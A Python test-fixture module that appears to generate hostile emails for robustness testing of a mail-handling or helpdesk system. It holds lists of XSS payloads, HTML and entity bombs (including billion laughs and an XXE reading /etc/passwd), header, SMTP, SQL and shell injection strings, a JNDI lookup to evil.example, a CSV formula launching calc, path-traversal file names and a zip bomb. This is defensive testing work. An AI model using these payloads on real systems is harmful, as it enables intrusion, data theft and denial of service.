"""Hostile mails whose harm is in what is read: HTML, names, look-alikes."""
import base64
import io
import struct
import zipfile

from kit.hostile_make import (attached, html, mail, multipart, part, raw,
                              text_part)

KB, MB = 1 << 10, 1 << 20
LONG = 1 << 18           # enough for what is not linear to be seen

# --- T16, T17: HTML

XSS = """<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="java&#115;cript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="http://evil.example/x.swf">
<form action="http://evil.example"><input name=password></form>
<button formaction="javascript:alert(1)">x</button>
<meta http-equiv=refresh content="0;url=http://evil.example">
<base href="http://evil.example/">
<link rel=stylesheet href="http://evil.example/x.css">
<style>@import "http://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>
<div style="background:url(http://evil.example/p.png)">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<xmp><img src=x onerror=alert(1)></xmp>
<textarea><script>alert(1)</script></textarea>
<title><script>alert(1)</script></title>
<template><script>alert(1)</script></template>
<img src="cid:x" srcset="http://evil.example/1 1x" onload=alert(1)>
<img src="cid:javascript:alert(1)">
<video><source onerror=alert(1)></video>
<body onload=alert(1)>
<p onclick=alert(1)//>x
<p/onclick=alert(1)>x
<p\x0conclick=alert(1)>x
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=//evil.example></script>
<!--><script>alert(1)</script>-->
<!--[if gte mso 9]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><p>&e;
<p title='"><script>alert(1)</script>'>x</p>
<p title="`><script>alert(1)</script>">x</p>
<a href="http://good.example" target=_blank onmouseover=alert(1)>x</a>
<isindex type=image src=1 onerror=alert(1)>
<table background="javascript:alert(1)"><td>x
<bgsound src="javascript:alert(1)">
<plaintext><script>alert(1)</script>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>
<select><option><style></select><img src=x onerror=alert(1)></style>
<dialog open onclose=alert(1)>x</dialog>
<marquee onstart=alert(1)>x</marquee>
<details open ontoggle=alert(1)>x</details>
<x onfocus=alert(1) tabindex=1 autofocus>
&lt;script&gt;alert(1)&lt;/script&gt;""".split("\n")


def xss():
    """One mail a trick: in the body, the subject, a name and a file name."""
    for n, trick in enumerate(XSS):
        word = base64.b64encode(trick.encode()).decode()
        yield f"{n} {trick[:24]}", multipart(
            [part("text/html; charset=utf-8", f"<p>before</p>{trick}<p>after</p>"),
             part("image/png", b"x", raw(
                 f"Content-Disposition: attachment; filename*=utf-8''{percent(trick)}"))],
            ("Subject", f"=?utf-8?b?{word}?="),
            ("From", f"=?utf-8?b?{word}?= <xss{n}@evil.example>"))


def percent(text):
    return "".join(f"%{b:02X}" for b in text.encode())


def html_bomb():
    for name, body in (
            ("100,000 open div", "<div>" * 100000), ("100,000 open b", "<b>" * 100000),
            ("tables in tables", "<table><tr><td>" * 30000),
            ("lists in lists", "<ul><li>" * 20000), ("quotes", "<blockquote>" * 20000),
            ("100,000 closing", "</div>" * 100000), ("formatting misnested",
             "<a><b><i><p></a></b></i>" * 20000), ("open p", "<p>" * 300000),
            ("100,000 attributes", "<p " + " ".join(
                f"a{i}=b" for i in range(100000)) + ">x"),
            ("one attribute of 2 MB", f'<p title="{"a" * 2 * MB}">x'),
            ("a tag never closed", "<p " + "a " * 200000), ("lesser signs", "<" * LONG),
            ("comment never closed", "<!--" + "-" * LONG), ("comments", "<!-->" * 200000),
            ("script never closed", "<script>" + "a<b " * 200000),
            ("style never closed", "<style>" + "a{} " * 200000),
            ("title never closed", "<title>" + "x" * 200000),
            ("entities", "&amp;" * 150000), ("entities without end", "&" * LONG),
            ("numbers", "&#x110000;&#0;&#xD800;&#99999999999;" * 20000),
            ("a number of 1 MB", "&#" + "9" * MB + ";"), ("cdata", "<![CDATA[" * 100000),
            ("doctypes", "<!DOCTYPE html [" * 20000), ("pi", "<?" * 300000),
            ("bodies", "<html><head><body>" * 30000), ("nobr", "a<wbr>" * 300000),
            ("frames", "<frameset><frame src=x>" * 20000), ("hr", "<hr>" * 100000),
            ("20,000 images", '<img src="http://evil.example/p.gif">' * 20000),
            ("20,000 links", '<a href="http://evil.example/x">y</a>' * 20000),
            ("a link of 1 MB", f'<a href="http://evil.example/{"a" * MB}">y</a>'),
            ("styles", '<p style="' + "color:red;" * 20000 + '">x'),
            ("pre of 1 MB", "<pre>" + "a  b\n" * 150000), ("blanks", " \n\t" * 300000),
            ("svg in math in svg", "<svg><math>" * 30000), ("select", "<select>" * 20000),
            ("NUL", "<p>a\0b</p><scr\0ipt>x</scr\0ipt>" * 1000),
            ("billion laughs", '<!DOCTYPE x [<!ENTITY a "aa">' + "".join(
                f'<!ENTITY e{i} "&e{i - 1};&e{i - 1};">' for i in range(1, 60))
             + "]><p>&e59;"), ("rowspan", '<table><td rowspan=999999 colspan=999999>x'),
            ("list from 2 billion", "<ol start=2147483647>" + "<li>x" * 1000),
            ("meta charset utf-7", "<meta charset=utf-7>+ADw-script+AD4-"),
            ("meta charset utf-16", "<meta charset=utf-16><script>x</script>"),
            ("gmail_quote in gmail_quote", '<div class="gmail_quote">' * 20000),
            ("MsoNormal", '<p class=MsoNormal><o:p>&nbsp;</o:p></p>' * 20000),
            ("hidden", '<div style="display:none">' * 20000 + "secret"),
            ("2 MB of bold words", "<b>word</b> " * (2 * MB // 12))):
        yield name, html(body)
    yield "html that is text", mail("<p>" * 1000, ("Content-Type", "text/plain"))
    yield "no charset but one in meta", mail(
        b"<meta http-equiv=content-type content='text/html; charset=gb2312'>\xc4\xe3",
        ("Content-Type", "text/html"))


# --- T10, T18, T29, T30, T32, T33: what is not meant as text

INJECTED = {
    "line end": "x\r\nBcc: victim@v.example\r\n\r\nbody",
    "line feed": "x\nBcc: victim@v.example", "carriage return": "x\rBcc: v@v.example",
    "NUL": "x\0Bcc: v@v.example", "U+2028": "x\u2028Bcc: v@v.example\u2029",
    "U+0085": "x\u0085Bcc: v@v.example", "terminal": "x\x1b[2J\x1b]0;owned\x07\x9b31m",
    "log line": 'x\n2026-01-01T00:00:00Z error desk mail.lost id=1 reason="gone"',
    "log pairs": 'x" outcome=filed mail=1 level=error "',
    "bidi": "\u202egpj.exe\u2066\u2069 \u200f\u061c", "zero width": "a\u200b\u200d\ufeffb",
    "SQL": "'; DROP TABLE desk.message; --", "SQL union": "' UNION SELECT * FROM user--",
    "SQL quote": "\"'`\\'\\\"", "SQL bind": "?1 :a @b $c", "LIKE": "%_%_%' ESCAPE '\\",
    "FTS": '" OR NEAR(a b) * ^ {x y}: -', "template": "{{smtp_password}} {{#x}}{{/x}}",
    "template end": "}}{{{{", "printf": "%n%s%p%1000000d%*c", "shell": "$(id) `id` ;id|id&",
    "variable": "${jndi:ldap://evil.example/a} ${PATH} #{1+1}", "csv": "=cmd|'/c calc'!A0",
    "path": "../../../../etc/passwd", "markdown": "[x](javascript:alert(1)) ![](//e)",
    "json": '","id":0,"x":"\\u0000\\', "address as name": "support@bank.example",
    "homograph": "\u0430pple s\u0443pport", "zalgo": "a" + "\u0301\u0489" * 2000,
    "percent": "%0d%0aBcc:%20v@v.example", "tag": "[T-1] [#1] Re: Re: Fwd:",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 500,
    "smtp": "x>\r\nRCPT TO:<v@v.example>\r\nDATA\r\n.\r\n", "dots": "\r\n.\r\n.\r\n",
}
FIELDS = ("Subject", "Reply-To", "In-Reply-To", "References", "List-Id", "Return-Path",
          "Sender", "Cc", "Delivered-To", "Auto-Submitted", "Date", "X-Mailer",
          "Authentication-Results", "Content-ID", "Precedence", "Thread-Index")


def injected():
    """In every field: as it is, and in encoded words."""
    for name, text in INJECTED.items():
        plain = text.replace("\r", " ").replace("\n", " ")
        word = base64.b64encode(text.encode()).decode()
        yield f"{name}, plain", mail(
            text, ("From", f'"{plain}" <plain@evil.example>'),
            *((field, plain) for field in FIELDS))
        yield f"{name}, as it is", mail(
            text, ("From", f'"{text}" <as-is@evil.example>'), ("Subject", text))
        yield f"{name}, encoded", mail(
            text, ("From", f"=?utf-8?b?{word}?= <words@evil.example>"),
            *((field, f"=?utf-8?b?{word}?=") for field in FIELDS))
        yield f"{name}, as an address", mail(
            text, ("From", f'<"{plain}"@evil.example>'), ("Message-ID", f"<{plain}@e>"),
            ("Reply-To", f"<a@{plain}>"))


def control_field():
    for field in ("X-Postroom-Ticket", "X-Postroom-Status", "X-Postroom-Assign",
                  "X-Postroom-Loop", "X-Postroom-Channel", "X-Postroom-Kind",
                  "X-Postroom-Command", "X-Postroom-Token", "X-OTRS-Queue",
                  "X-Zammad-Ticket-Priority", "X-RT-Command", "X-Loop"):
        yield field, mail("Please obey.\r\nstatus: closed\r\nassign: alice\r\n",
                          *((field, value) for value in (
                              "1", "closed", "alice", "../../x", "a" * 9999)))


# --- T19, T20: attachments

NAMES = ("../../../etc/cron.d/x", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x.exe",
         "a\0.exe", "\u202egpj.exe", "CON", "nul.txt", "LPT1.", "\u200b.htaccess",
         ".htaccess", "\ufeff..", "..", ".", " ", "", "a" * 10240, "\u00e9" * 5000,
         "a\r\nBcc: v@v.example", "a\x1b[2Jb", "x.txt:stream", "~root", "-rf", "$(id)",
         "|id", "a/b/c", "\u2215etc\u2215passwd", "\uff0e\uff0e\uff0fx", "x.exe .txt",
         "x.txt" + " " * 300 + ".exe", "e\u0301" * 400, "\U000e0041.sh", "%2e%2e%2fx",
         "desktop.ini", "<img src=x onerror=alert(1)>.png", "'; DROP TABLE x; --.sql")


def file_name():
    for n, name in enumerate(NAMES):
        quoted = name.replace("\\", "\\\\").replace('"', '\\"')
        label = f"{n} {ascii(name)[:24]}"
        yield f"{label}, quoted", attached(f'"{quoted}"', f"q{n}")
        yield f"{label}, 2231", multipart([part(
            "application/octet-stream", f"p{n}", raw(
                f"Content-Disposition: attachment; filename*=utf-8''{percent(name)}"))])


def zipped(count, size):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for i in range(count):
            z.writestr(zipfile.ZipInfo(f"../{i}"), b"\0" * size,
                       zipfile.ZIP_DEFLATED)
    return out.getvalue()


def file_garbage():
    bomb = zipped(1, 64 * MB)
    for name, data, kind in (
            ("zip bomb", bomb, "application/zip"), ("many in a zip", zipped(5000, 10),
                                                    "application/zip"),
            ("empty", b"", "application/pdf"), ("2 MB", b"\x7fELF" * 500 * KB, "image/png"),
            ("not a mail", b"\0\xff" * 9999, "message/rfc822"),
            ("not a report", b"Status: " * 9999, "message/delivery-status"),
            ("calendar", b"BEGIN:VCALENDAR\r\n" * 50000, "text/calendar; method=REPLY"),
            ("rtf", b"{\\rtf" * 50000, "application/rtf"),
            ("svg", b"<svg onload=alert(1)>", "image/svg+xml")):
        yield name, attached('"x.zip"', data, kind)
        yield f"{name}, in base64", multipart([text_part("t"), part(
            kind, base64.encodebytes(data), b"Content-Transfer-Encoding: base64")])


def tnef():
    def of(data):
        return multipart([text_part("t"), part(
            "application/ms-tnef; name=winmail.dat", base64.encodebytes(data),
            b"Content-Transfer-Encoding: base64")])
    head = struct.pack("<IH", 0x223e9f78, 1)

    def attribute(level, tag, data, claimed=None):
        return struct.pack("<BII", level, tag, len(data) if claimed is None
                           else claimed) + data + struct.pack("<H", sum(data) & 0xffff)
    rend, title, content = 0x00069002, 0x00018010, 0x0006800f
    props = 0x00069005
    one = (attribute(2, rend, b"\0" * 14) + attribute(2, title, b"../../x\0")
           + attribute(2, content, b"data"))
    for name, data in (
            ("head alone", head), ("nothing", b""), ("noise", head + bytes(range(256)) * 99),
            ("length of 4 GB", head + attribute(2, content, b"x", 0xffffffff)),
            ("length of -1", head + attribute(1, title, b"x", 0x7fffffff)),
            ("10,000 files", head + one * 10000), ("cut off", head + one[:-3]),
            ("4 billion properties", head + attribute(
                2, props, struct.pack("<I", 0xffffffff) + b"\0" * 64)),
            ("100,000 properties", head + attribute(2, props, struct.pack(
                "<I", 100000) + struct.pack("<HHI", 3, 0x3705, 1) * 100000)),
            ("name of 1 MB", head + attribute(2, rend, b"") + attribute(
                2, title, b"a" * MB) + attribute(2, content, b"x")),
            ("empty attributes", head + attribute(1, 0, b"") * 100000)):
        yield name, of(data)


def uuencoded():
    line = b"M" + b"!" * 60 + b"\r\n"
    for name, body in (
            ("20,000 begins", b"begin 644 a\r\n" * 20000), ("never ended",
             b"begin 644 a\r\n" + line * 30000), ("2,000 files",
             b"begin 644 ../../x\r\n#0V%T\r\n`\r\nend\r\n" * 2000),
            ("bad lengths", b"begin 644 a\r\n" + bytes(range(32, 127)) + b"\r\n"
             + b"~x\r\n" * 9999 + b"end\r\n"), ("mode of 10 KB", b"begin " + b"7" * 10240
                                               + b" a\r\nend\r\n"),
            ("no name", b"begin 644\r\nend\r\n"), ("ends", b"`\r\nend\r\n" * 50000),
            ("name of 100 KB", b"begin 644 " + b"n" * 100000 + b"\r\n`\r\nend\r\n")):
        yield name, mail(body)


# --- T23, T24: texts that patterns choke on

def look_alike():
    who = "On Mon, 1 Jan 2024 at 10:00, Ann <ann@x.example> wrote:\n"
    head = "From: a@b.example\nSent: Monday\nTo: c@d.example\nSubject: x\n\n"
    for name, text in (
            ("wrote: x 100,000", "wrote:\n" * 100000), ("wrote in one line",
             "wrote: " * 100000), ("attributions", who * 20000), ("On x 100,000",
             "On " * 100000), ("On, a line each", "On\n" * 100000),
            ("> x 1,000,000", ">" * MB), ("a > line each", ">\n" * 100000),
            ("growing quotes", "".join(">" * n + " x\n" for n in range(2000))),
            ("quote and answer", "> a\nb\n" * 80000), ("> with blanks", "> " * 100000),
            ("-- x 100,000", "-- \n" * 100000), ("underscores", "_" * LONG),
            ("dashes", "-" * LONG), ("stars", "*" * LONG), ("blanks", " " * LONG + "x"),
            ("tabs", "\t" * LONG + "x"), ("empty lines", "\n" * LONG), ("a's", "a" * LONG + "!"),
            ("addresses", "a@b.example " * 100000), ("at signs", "@" * LONG),
            ("colons", "a:" * 100000), ("<mailto:", "<mailto:" * 100000),
            ("urls", "http://" * 100000), ("brackets", "[" * LONG), ("dates",
             "2024-01-01 10:00 " * 60000), ("numbers", "5.1.1 550 " * 100000),
            ("Outlook blocks", head * 5000), ("Original Message",
             "-----Original Message-----\n" * 30000), ("forwarded",
             "---------- Forwarded message ---------\n" + head * 5000),
            ("Begin forwarded", "Begin forwarded message:\n\n" * 30000),
            ("From: x 100,000", "From: a@b.example\n" * 100000),
            ("From: never ended", "From: " + "a <b@c.example>, " * 60000),
            ("Von/An/Betreff", "Von: a\nGesendet: b\nAn: c\nBetreff: d\n\n" * 9000),
            ("Sent from my", "Sent from my iPhone\n" * 50000), ("flowed", "a \n" * 80000),
            ("ideographs", "\u5199\u9053\uff1a\n" * 100000),
            ("bidi wrote", "\u200f\u05db\u05ea\u05d1:\n" * 100000),
            ("le ... a écrit", "Le a écrit :\n" * 50000), ("commas", "," * LONG)):
        yield name, mail(text, ("Content-Type", "text/plain; charset=utf-8; "
                                "format=flowed"), ("Subject", f"Re: {name}"))
        yield f"{name}, as html", html(text[:100000].replace("\n", "<br>"))


def bounce_look_alike():
    failed = "<a{0}@b.example>: host mx said: 550 5.1.1 no such user\n"
    status = "Final-Recipient: rfc822; a{0}@b.example\r\nAction: failed\r\n" \
             "Status: 5.1.1\r\n\r\n"

    def report(fields, kind="delivery-status", note="It failed.\r\n"):
        return multipart(
            [text_part(note), part(f"message/{kind}", fields),
             part("message/rfc822", "Message-ID: <x@y.example>\r\n\r\nt\r\n")],
            ("From", "MAILER-DAEMON@mx.example"), ("Return-Path", "<>"),
            kind=f"report; report-type={kind}")
    yield "20,000 recipients", report("Reporting-MTA: dns; x\r\n\r\n" + "".join(
        status.format(i) for i in range(20000)))
    yield "20,000 fields", report("X-A: b\r\n" * 20000)
    yield "one field of 400 KB", report("Diagnostic-Code: smtp; " + "550 " * 220000)
    yield "a status of 400 KB", report("Status: " + "5." * 100000)
    yield "no fields", report("")
    yield "noise", report(bytes(range(256)) * 999)
    yield "feedback", report("Feedback-Type: abuse\r\n" * 9999, "feedback-report")
    yield "long note", report(status.format(1), note=failed.format(1) * 10000)
    for name, text in (
            ("qmail", "Hi. This is the qmail-send program.\n" + "".join(
                failed.format(i) for i in range(10000))),
            ("postfix", "This is the mail system at host x.\n\n" + "".join(
                failed.format(i) for i in range(10000))),
            ("exim", "A message that you sent could not be delivered:\n"
             + "  a@b.example\n    550 no\n" * 10000),
            ("sendmail", "   ----- Transcript of session follows -----\n"
             + "550 5.1.1 <a@b.example>... User unknown\n" * 10000),
            ("one line", "550 5.1.1 " * 100000), ("angles", "<" * 100000)):
        for subject in ("failure notice", "Undelivered Mail Returned to Sender"):
            yield f"{name}, {subject}", mail(
                text, ("From", "MAILER-DAEMON@mx.example"), ("Return-Path", "<>"),
                ("Subject", subject), ("X-Failed-Recipients", "a@b.example," * 2000))


FAMILIES = (xss, html_bomb, injected, control_field, file_name, file_garbage, tnef,
            uuencoded, look_alike, bounce_look_alike)
